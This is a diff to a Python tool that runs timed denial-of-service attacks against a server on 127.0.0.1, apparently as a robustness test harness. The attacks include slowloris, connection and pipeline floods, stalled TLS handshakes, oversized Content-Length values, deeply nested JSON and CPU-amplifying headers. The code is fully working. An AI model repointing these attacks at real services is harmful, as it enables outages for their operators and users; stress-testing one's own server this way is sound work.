@@ -6,30 +6,65 @@ Each sends to 127.0.0.1 only (there is no host argument), stops after SECONDS or
 SIGTERM, closes every socket with a reset (no TIME_WAIT left behind), and prints two JSON
 lines: {"ready": {...}} once at full strength, then {"done": {...}} with what it counted.
 Attacks holding connections open one again whenever the server closes one, so they keep
-their strength. Standard library only (asyncio).
+their strength. Standard library only; plain sockets and threads, which cost the load
+generator's core less than asyncio does.
 """
 
 from __future__ import annotations
 
-import asyncio
 import contextlib
+import errno
 import json
 import re
 import resource
+import selectors
 import signal
 import socket
 import ssl
 import struct
 import sys
-from collections import Counter
-from collections.abc import Awaitable, Callable
+import threading
+import time
+from collections import Counter, deque
+from collections.abc import Callable
 from typing import Any
 
 HOST = "127.0.0.1"
 HEALTH = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
 POST = b"POST /app/token HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
-Stream = tuple[asyncio.StreamReader, asyncio.StreamWriter]
-FAILURES = (OSError, TimeoutError, asyncio.IncompleteReadError, asyncio.LimitOverrunError)
+
+
+class Run:
+    """The attack's bounds (a deadline, and a stop flag SIGTERM raises) and its tallies."""
+
+    def __init__(self, seconds: float) -> None:
+        self.deadline = time.monotonic() + seconds
+        self.stopped = threading.Event()
+        self.lock = threading.Lock()
+        self.counts: Counter[str] = Counter()
+        signal.signal(signal.SIGTERM, lambda *_: self.stopped.set())
+
+    def going(self) -> bool:
+        """Neither stopped nor past the deadline."""
+        return not self.stopped.is_set() and time.monotonic() < self.deadline
+
+    def sleep(self, seconds: float) -> None:
+        """Sleep, waking at once on SIGTERM or at the deadline."""
+        self.stopped.wait(max(0.0, min(seconds, self.deadline - time.monotonic())))
+
+    def count(self, what: str, amount: int = 1) -> None:
+        """Add to a tally (from any thread)."""
+        with self.lock:
+            self.counts[what] += amount
+
+    def in_threads(self, clients: int, target: Callable[[], None]) -> None:
+        """`clients` threads running `target`, waited for within the run's bounds."""
+        emit("ready", {"clients": clients})
+        threads = [threading.Thread(target=target, daemon=True) for _ in range(clients)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join(timeout=max(0.0, self.deadline - time.monotonic()) + 5.0)
 
 
 def emit(kind: str, payload: dict[str, Any]) -> None:
@@ -37,114 +72,134 @@ def emit(kind: str, payload: dict[str, Any]) -> None:
     print(json.dumps({kind: payload}), flush=True)
 
 
-async def connect(port: int, rcvbuf: int = 0) -> Stream:
+def connect(port: int, timeout: float, rcvbuf: int = 0) -> socket.socket:
     """A connection to the server (a small receive window from the start if `rcvbuf`)."""
     sock = socket.socket()
     try:
-        sock.setblocking(False)
         if rcvbuf:
             sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
-        async with asyncio.timeout(3.0):  # not wait_for: in 3.11 it can swallow a cancel
-            await asyncio.get_running_loop().sock_connect(sock, (HOST, port))
-        return await asyncio.open_connection(sock=sock)
+        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        sock.settimeout(3.0)
+        sock.connect((HOST, port))
+        sock.settimeout(timeout)
     except BaseException:
         sock.close()
         raise
+    return sock
 
 
-def reset(writer: asyncio.StreamWriter) -> None:
+def close_hard(sock: socket.socket) -> None:
     """Close with a reset: tens of thousands of TIME_WAIT sockets would outlive the run."""
     with contextlib.suppress(OSError):
-        linger = struct.pack("ii", 1, 0)
-        writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
-    writer.transport.abort()
+        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    sock.close()
 
 
-async def answer(reader: asyncio.StreamReader) -> tuple[str, bytes]:
-    """One whole answer: its status code and its body."""
-    head = await reader.readuntil(b"\r\n\r\n")
-    length = re.search(rb"(?im)^content-length:\s*(\d+)", head)
-    body = await reader.readexactly(int(length[1]) if length else 0)
-    return head.split(b" ", 2)[1].decode("ascii", "replace"), body
+def read_answer(sock: socket.socket, buffer: bytearray) -> tuple[str, bytes]:
+    """One whole answer: its status code (or what went wrong instead) and its body."""
+    try:
+        while (end := buffer.find(b"\r\n\r\n")) < 0:
+            data = sock.recv(262144)
+            if not data:
+                return "closed" if not buffer else "truncated", b""
+            buffer += data
+        length = re.search(rb"(?im)^content-length:\s*(\d+)", buffer[:end])
+        needed = end + 4 + (int(length[1]) if length else 0)
+        while len(buffer) < needed:
+            data = sock.recv(262144)
+            if not data:
+                return "truncated", b""
+            buffer += data
+        status, body = (
+            bytes(buffer[9:12]).decode("ascii", "replace"),
+            bytes(buffer[end + 4 : needed]),
+        )
+        del buffer[:needed]
+        return status, body
+    except OSError as error:  # TimeoutError included
+        return type(error).__name__, b""
 
 
-async def content_length(port: int, counts: Counter[str], count: int) -> None:
+# -- the attacks -----------------------------------------------------------------------
+
+
+def content_length(port: int, run: Run, count: int) -> None:
     """(a) POST /app/token whose Content-Length is 4,301 zeros, then one of 5,000 digits
     (int() refuses over 4,300), every half second, each on a new connection."""
     for turn in range(1_000_000):
         for name, value in (("zeros-4301", b"0" * 4301), ("digits-5000", b"9" * 5000)):
             try:
-                reader, writer = await connect(port)
-                try:
-                    writer.write(POST + b"Content-Length: " + value + b"\r\n\r\n")
-                    async with asyncio.timeout(2.0):
-                        counts[f"{name} {(await answer(reader))[0]}"] += 1
-                finally:
-                    reset(writer)
-            except FAILURES as error:
-                counts[f"{name} {type(error).__name__}"] += 1
+                sock = connect(port, 2.0)
+            except OSError as error:
+                run.count(f"{name} {type(error).__name__}")
+                continue
+            try:
+                sock.sendall(POST + b"Content-Length: " + value + b"\r\n\r\n")
+                run.count(f"{name} {read_answer(sock, bytearray())[0]}")
+            except OSError as error:
+                run.count(f"{name} {type(error).__name__}")
+            finally:
+                close_hard(sock)
         if turn == 0:
-            emit("ready", dict(counts))
-        await asyncio.sleep(0.5)
+            emit("ready", dict(run.counts))
+        run.sleep(0.5)
+        if not run.going():
+            return
 
 
-async def keep_asking(
-    port: int,
-    counts: Counter[str],
-    clients: int,
-    depth: int,
-    first: bytes,
-    then: Callable[[bytes], bytes],
+def keep_asking(
+    port: int, run: Run, clients: int, depth: int, first: bytes, then: Callable[[bytes], bytes]
 ) -> None:
     """`clients` keep-alive connections, each keeping `depth` requests in flight: `first`
     to begin with, and after each answer, `then(that answer's body)`."""
 
-    async def client() -> None:
-        while True:
+    def client() -> None:
+        while run.going():
             try:
-                reader, writer = await connect(port)
-            except FAILURES:
-                counts["connect_failed"] += 1
-                await asyncio.sleep(0.2)
+                sock = connect(port, 10.0)
+                sock.sendall(first * depth)
+            except OSError:
+                run.count("connect_failed")
+                run.sleep(0.2)
                 continue
+            buffer = bytearray()
             try:
-                writer.write(first * depth)
-                while True:
-                    async with asyncio.timeout(10.0):
-                        status, body = await answer(reader)
-                    counts[status] += 1
-                    counts["bytes_read"] += len(body)
-                    writer.write(then(body))
-            except FAILURES as error:
-                counts[type(error).__name__] += 1
+                while run.going():
+                    status, body = read_answer(sock, buffer)
+                    run.count(status)
+                    run.count("bytes_read", len(body))
+                    if not status.isdigit():
+                        break
+                    sock.sendall(then(body))
+            except OSError:
+                run.count("send_failed")
             finally:
-                reset(writer)
+                close_hard(sock)
 
-    emit("ready", {"clients": clients, "depth": depth})
-    await asyncio.gather(*(client() for _ in range(clients)))
+    run.in_threads(clients, client)
 
 
-async def deep_json(port: int, counts: Counter[str], count: int) -> None:
+def deep_json(port: int, run: Run, count: int) -> None:
     """(b) POST /app/token with a body of 20,000 `[` (json.loads would recurse), `count`
     keep-alive clients (default 3) sending it again as soon as the answer arrives."""
     body = b"[" * 20_000
     request = POST + b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
-    await keep_asking(port, counts, count or 3, 1, request, lambda _: request)
+    keep_asking(port, run, count or 3, 1, request, lambda _: request)
 
 
-async def admin_list(port: int, counts: Counter[str], count: int) -> None:
+def admin_list(port: int, run: Run, count: int) -> None:
     """(j) `count` connections (default 8), each with 4 pipelined GET /app/tokens for the
-    biggest page the server allows (100,000 or its OpenAPI maximum); an answer's `next`,
-    if any, is asked for next, and a walk that ends starts again from the first page."""
-    reader, writer = await connect(port)
+    biggest page the server allows (100,000, or less if its OpenAPI says so); an answer's
+    `next`, if any, is asked for next, and a walk that ends starts again."""
+    sock = connect(port, 10.0)
     try:
-        writer.write(b"GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
-        listing = json.loads((await answer(reader))[1])["paths"]["/app/tokens"]["get"]
+        sock.sendall(b"GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
+        listing = json.loads(read_answer(sock, bytearray())[1])["paths"]["/app/tokens"]["get"]
         given = [p["schema"] for p in listing.get("parameters", []) if p.get("name") == "limit"]
         limit = min([100_000] + [int(schema.get("maximum", 100_000)) for schema in given])
     finally:
-        reset(writer)
-    counts["limit"] = limit
+        close_hard(sock)
+    run.counts["limit"] = limit
     first = f"GET /app/tokens?limit={limit} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
 
     def then(body: bytes) -> bytes:
@@ -152,158 +207,244 @@ async def admin_list(port: int, counts: Counter[str], count: int) -> None:
         found = re.match(rb'"next":\s*"([^"]+)"', body[at:]) if at >= 0 else None
         if found is None:
             return first
-        counts["pages_followed"] += 1
+        run.count("pages_followed")
         after = found[1].decode()
         path = after if after.startswith("/") else f"/app/tokens?limit={limit}&after={after}"
         return f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode()
 
-    await keep_asking(port, counts, count or 8, 4, first, then)
+    keep_asking(port, run, count or 8, 4, first, then)
 
 
-async def flood(
-    port: int, counts: Counter[str], clients: int, rcvbuf: int, read_every: float
-) -> None:
-    """`clients` connections pipelining GET /health as fast as the server takes them
-    (up to 256 MiB each), reading the answers 64 KiB every `read_every` s, or never
-    (`read_every` 0); reconnecting when the server hangs up."""
-    chunk = HEALTH * 1000
+def flood(port: int, run: Run, clients: int, rcvbuf: int, read_every: float) -> None:
+    """`clients` connections pipelining GET /health as fast as the server takes them (up
+    to 256 MiB each), reading the answers 64 KiB every `read_every` s, or never (0);
+    reconnecting when the server hangs up."""
+    chunk = HEALTH * (100 if rcvbuf else 1000)
 
-    async def read_slowly(reader: asyncio.StreamReader) -> None:
-        while data := await reader.read(65536):
-            counts["bytes_read"] += len(data)
-            await asyncio.sleep(read_every)
-
-    async def client() -> None:
-        sent = 0
-        while True:
+    def read_slowly(sock: socket.socket, done: threading.Event) -> None:
+        while run.going() and not done.is_set():
             try:
-                reader, writer = await connect(port, rcvbuf)
-            except FAILURES:
-                counts["connect_failed"] += 1
-                await asyncio.sleep(0.2)
+                data = sock.recv(65536)
+            except TimeoutError:
                 continue
-            counts["connections"] += 1
-            reading = asyncio.ensure_future(
-                read_slowly(reader) if read_every else asyncio.sleep(1e9)
-            )
+            except OSError:
+                return
+            if not data:
+                return
+            run.count("bytes_read", len(data))
+            run.sleep(read_every)
+
+    def client() -> None:
+        sent = 0
+        while run.going():
             try:
-                while sent < 256 * 1024 * 1024:
-                    writer.write(chunk)
-                    await writer.drain()
-                    sent += len(chunk)
-                    counts["bytes_sent"] += len(chunk)
-                await reading  # past the cap: read what the server has still to answer
-            except FAILURES:
-                counts["closed_by_server"] += 1
+                sock = connect(port, 0.5, rcvbuf)
+            except OSError:
+                run.count("connect_failed")
+                run.sleep(0.2)
+                continue
+            run.count("connections")
+            done = threading.Event()
+            reader = threading.Thread(target=read_slowly, args=(sock, done), daemon=True)
+            if read_every:
+                reader.start()
+            pending = memoryview(chunk)
+            try:
+                while run.going():
+                    if sent >= 256 * 1024 * 1024:  # keep reading what is left to answer
+                        run.sleep(0.1)
+                        continue
+                    with contextlib.suppress(TimeoutError):  # both buffers full
+                        now = sock.send(pending)
+                        sent += now
+                        run.count("bytes_sent", now)
+                        pending = pending[now:] or memoryview(chunk)
+            except OSError:
+                run.count("closed_by_server")
             finally:
-                reading.cancel()
-                reset(writer)
+                done.set()
+                if read_every:
+                    reader.join(timeout=2.0)
+                close_hard(sock)
 
-    emit("ready", {"clients": clients})
-    await asyncio.gather(*(client() for _ in range(clients)))
+    run.in_threads(clients, client)
 
 
-async def no_read(port: int, counts: Counter[str], count: int) -> None:
+def no_read(port: int, run: Run, count: int) -> None:
     """(d) `count` clients (default 5) with a 1 KiB receive buffer pipeline GET /health as
     fast as they can and never read an answer."""
-    await flood(port, counts, count or 5, 1024, 0.0)
+    flood(port, run, count or 5, 1024, 0.0)
 
 
-async def pipeline_flood(port: int, counts: Counter[str], count: int) -> None:
+def pipeline_flood(port: int, run: Run, count: int) -> None:
     """(e) `count` clients (default 2) pipeline far faster than the answers leave, reading
     64 KiB every 10 ms: slower than they send, fast enough that the server never waits to
     send (that is d). What a server reads ahead piles up in its memory."""
-    await flood(port, counts, count or 2, 0, 0.01)
+    flood(port, run, count or 2, 0, 0.01)
 
 
-async def cpu_amplification(port: int, counts: Counter[str], count: int) -> None:
+def cpu_amplification(port: int, run: Run, count: int) -> None:
     """(f) `count` connections (default 20) send 62 KB of headers, then a 60,000-byte body
     4 bytes every 2 ms: a parser that re-reads the head on each arrival does ~62 KB of
     work per 4 bytes."""
     filler = b"".join(b"X-Filler-%04d: " % index + b"a" * 46 + b"\r\n" for index in range(1000))
     head = POST + b"Content-Length: 60000\r\n" + filler + b"\r\n"
     body = b'{"label": "' + b"a" * (60_000 - 13) + b'"}'
-    writers: list[asyncio.StreamWriter] = []
+    connections: list[tuple[socket.socket, list[int]]] = []
     try:
         for _ in range(count or 20):
             try:
-                writers.append((await connect(port))[1])
-                writers[-1].write(head)
-            except FAILURES:
-                counts["connect_failed"] += 1
-        emit("ready", {"connections": len(writers), "head_bytes": len(head)})
-        offset = 0
-        while True:
-            for writer in writers:  # the answer of a finished request is left unread
-                if not writer.is_closing():
-                    writer.write(body[offset : offset + 4] if offset < len(body) else head)
-            offset = offset + 4 if offset < len(body) else 0
-            await asyncio.sleep(0.002)
-    finally:
-        for writer in writers:
-            reset(writer)
-
-
-async def hold(
-    port: int, counts: Counter[str], count: int, first: Callable[[int], bytes], trickle: bytes = b""
-) -> None:
-    """Hold `count` connections, each sending `first(its index)`, then the next byte of
-    `trickle` every 5 s; one the server answers or closes is opened again at once. At
-    most 256 connects are in flight, so a server that stops accepting slows the reopening
-    without stalling the connections held."""
-    gate, opened, held = asyncio.Semaphore(256), asyncio.Event(), [0]
-
-    async def one(index: int) -> None:
-        while True:
-            async with gate:
+                connections.append((connect(port, 5.0), [0]))
+                connections[-1][0].sendall(head)
+                connections[-1][0].setblocking(False)
+            except OSError:
+                run.count("connect_failed")
+        emit("ready", {"connections": len(connections), "head_bytes": len(head)})
+        while run.going() and connections:
+            for sock, offset in connections:
                 try:
-                    reader, writer = await connect(port)
-                except FAILURES:
-                    counts["failed_connects"] += 1
-                    continue
-            held[0] += 1
-            if held[0] >= count:
-                opened.set()
-            try:
-                writer.write(first(index))
-                position = 0
-                while True:
-                    try:
-                        async with asyncio.timeout(5.0 if trickle else None):
-                            await reader.read(1)
-                        break  # the server answered (an error, an alert) or closed it
-                    except TimeoutError:
-                        writer.write(trickle[position : position + 1] or trickle[-1:])
-                        position += 1
-                        counts["bytes"] += 1
-                counts["closed_by_server"] += 1
-            except FAILURES:
-                counts["closed_by_server"] += 1
-            finally:
-                held[0] -= 1
-                reset(writer)
-
-    tasks = [asyncio.ensure_future(one(index)) for index in range(count)]
-    with contextlib.suppress(TimeoutError):
-        async with asyncio.timeout(20.0):
-            await opened.wait()
-    emit("ready", {"held": held[0], **counts})
-    await asyncio.gather(*tasks)
+                    if offset[0] < len(body):
+                        offset[0] += sock.send(body[offset[0] : offset[0] + 4])
+                        continue
+                    with contextlib.suppress(BlockingIOError):  # whole: drop the answer
+                        sock.recv(65536)
+                    run.count("requests_completed")
+                    sock.settimeout(5.0)
+                    sock.sendall(head)
+                    sock.setblocking(False)
+                    offset[0] = 0
+                except BlockingIOError:
+                    run.count("send_blocked")
+                except OSError:
+                    run.count("send_failed")
+            run.sleep(0.002)
+    finally:
+        for sock, _ in connections:
+            close_hard(sock)
 
 
-async def slowloris(port: int, counts: Counter[str], count: int) -> None:
+class Holder:
+    """Holds `count` connections, opening one anew whenever the server closes one.
+
+    Connects are non-blocking (at most 256 in flight), so a server that stops accepting
+    slows the reopening without stalling the connections held. `on_open(sock, index)`
+    sends what the attack sends first; a connection that turns readable was answered or
+    closed by the server, and is reopened."""
+
+    def __init__(
+        self, port: int, run: Run, count: int, on_open: Callable[[socket.socket, int], None]
+    ) -> None:
+        self.port, self.run, self.count, self.on_open = port, run, count, on_open
+        self.selector = selectors.DefaultSelector()
+        self.sockets: dict[socket.socket, tuple[int, float]] = {}  # -> index, connect deadline
+        self.to_open: deque[int] = deque(range(count))
+
+    @property
+    def held(self) -> int:
+        """Connections open now (connect completed)."""
+        return sum(1 for _, deadline in self.sockets.values() if not deadline)
+
+    def _connect(self) -> None:
+        connecting = len(self.sockets) - self.held
+        while self.to_open and connecting < 256:
+            index = self.to_open.popleft()
+            sock = socket.socket()
+            sock.setblocking(False)
+            if sock.connect_ex((HOST, self.port)) not in (0, errno.EINPROGRESS, errno.EAGAIN):
+                sock.close()
+                self.run.count("failed_connects")
+                self.to_open.append(index)
+                return  # out of ports or descriptors: try again on the next turn
+            self.sockets[sock] = (index, time.monotonic() + 3.0)
+            self.selector.register(sock, selectors.EVENT_WRITE)
+            connecting += 1
+
+    def _drop(self, sock: socket.socket, *, reopen: bool = True) -> None:
+        index, _ = self.sockets.pop(sock)
+        with contextlib.suppress(KeyError, ValueError):
+            self.selector.unregister(sock)
+        close_hard(sock)
+        if reopen:
+            self.to_open.append(index)
+
+    def turn(self, timeout: float) -> None:
+        """Start connects, then handle what the server did within `timeout`."""
+        self._connect()
+        for key, _ in self.selector.select(timeout=timeout):
+            sock = key.fileobj
+            assert isinstance(sock, socket.socket)
+            if sock not in self.sockets:
+                continue
+            index, deadline = self.sockets[sock]
+            if not deadline:  # readable: the server answered (an error, an alert) or closed
+                self.run.count("closed_by_server")
+                self._drop(sock)
+            elif sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
+                self.run.count("failed_connects")
+                self._drop(sock)
+            else:
+                self.sockets[sock] = (index, 0.0)
+                self.run.count("opened")
+                self.selector.modify(sock, selectors.EVENT_READ)
+                try:
+                    self.on_open(sock, index)
+                except OSError:
+                    self.run.count("closed_by_server")
+                    self._drop(sock)
+        now = time.monotonic()
+        for sock, (_, deadline) in list(self.sockets.items()):
+            if deadline and now > deadline:
+                self.run.count("failed_connects")
+                self._drop(sock)
+
+    def hold(self, tick: Callable[[], None] = lambda: None) -> None:
+        """Open them all (20 s at most), say so, then keep them until the run ends."""
+        ramp = time.monotonic() + 20.0
+        while self.run.going() and time.monotonic() < ramp and self.held < self.count:
+            self.turn(0.01)
+        emit("ready", {"held": self.held, **self.run.counts})
+        try:
+            while self.run.going():
+                self.turn(0.05)
+                tick()
+        finally:
+            self.run.count("held_at_end", self.held)
+            for sock in list(self.sockets):
+                self._drop(sock, reopen=False)
+            self.selector.close()
+
+
+def slowloris(port: int, run: Run, count: int) -> None:
     """(c) `count` connections each sending a request one byte every 5 s, never ending
     it: every byte is activity, so a timeout restarted by each read would never fire."""
     request = b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 1000
-    await hold(port, counts, count, lambda _: request[:1], request[1:])
+    due: deque[tuple[float, socket.socket, int]] = deque()  # when, socket, next byte
+
+    def on_open(sock: socket.socket, index: int) -> None:
+        sock.send(request[:1])
+        due.append((time.monotonic() + 5.0, sock, 1))
+
+    def send_due() -> None:
+        while due and due[0][0] <= time.monotonic():
+            when, sock, position = due.popleft()
+            if sock not in holder.sockets:
+                continue  # closed and reopened meanwhile
+            try:
+                run.count("bytes", sock.send(request[position : position + 1]))
+            except OSError:
+                continue  # the holder sees the close and reopens
+            due.append((when + 5.0, sock, min(position + 1, len(request) - 1)))
+
+    holder = Holder(port, run, count, on_open)
+    holder.hold(send_due)
 
 
-async def connection_flood(port: int, counts: Counter[str], count: int) -> None:
+def connection_flood(port: int, run: Run, count: int) -> None:
     """(g) Hold `count` connections idle, sending nothing."""
-    await hold(port, counts, count, lambda _: b"")
+    Holder(port, run, count, lambda sock, index: None).hold()
 
 
-async def tls_stall(port: int, counts: Counter[str], count: int) -> None:
+def tls_stall(port: int, run: Run, count: int) -> None:
     """(h) `count` connections to an HTTPS server that never finish their handshake: every
     other one sends the first half of a real ClientHello, the rest nothing."""
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
@@ -312,11 +453,16 @@ async def tls_stall(port: int, counts: Counter[str], count: int) -> None:
     with contextlib.suppress(ssl.SSLWantReadError):
         context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=HOST).do_handshake()
     hello = outgoing.read()
-    half = hello[: len(hello) // 2]
-    await hold(port, counts, count, lambda index: b"" if index % 2 else half)
+    run.counts["hello_bytes"] = len(hello)
+
+    def on_open(sock: socket.socket, index: int) -> None:
+        if index % 2 == 0:
+            sock.send(hello[: len(hello) // 2])
+
+    Holder(port, run, count, on_open).hold()
 
 
-ATTACKS: dict[str, Callable[[int, Counter[str], int], Awaitable[None]]] = {
+ATTACKS: dict[str, Callable[[int, Run, int], None]] = {
     "content_length": content_length,
     "deep_json": deep_json,
     "slowloris": slowloris,
@@ -329,23 +475,6 @@ ATTACKS: dict[str, Callable[[int, Counter[str], int], Awaitable[None]]] = {
 }
 
 
-async def attack(name: str, port: int, seconds: float, count: int) -> Counter[str]:
-    """Run one attack until SIGTERM or `seconds`; what it counted."""
-    counts: Counter[str] = Counter()
-    task = asyncio.ensure_future(ATTACKS[name](port, counts, count))
-    stop = asyncio.Event()
-    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
-    await asyncio.wait(
-        [task, asyncio.ensure_future(stop.wait())], timeout=seconds, return_when="FIRST_COMPLETED"
-    )
-    while not task.done():  # again until it ends: a cancel may land where it is lost
-        task.cancel()
-        await asyncio.wait([task], timeout=1.0)
-    if not task.cancelled() and task.exception() is not None:
-        counts[f"attack failed: {task.exception()!r}"] = 1
-    return counts
-
-
 def main(argv: list[str]) -> int:
     """Run the attack named on the command line, bounded in time."""
     name, port, seconds = argv[0], int(argv[1]), float(argv[2])
@@ -354,7 +483,10 @@ def main(argv: list[str]) -> int:
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     with contextlib.suppress(ValueError, OSError):
         resource.setrlimit(resource.RLIMIT_NOFILE, (65536 if hard < 0 else hard, hard))
-    emit("done", dict(asyncio.run(attack(name, port, seconds, int(argv[3]) if argv[3:] else 0))))
+    run = Run(seconds)
+    started = time.monotonic()
+    ATTACKS[name](port, run, int(argv[3]) if argv[3:] else 0)
+    emit("done", {**run.counts, "seconds": round(time.monotonic() - started, 1)})
     return 0
 
 
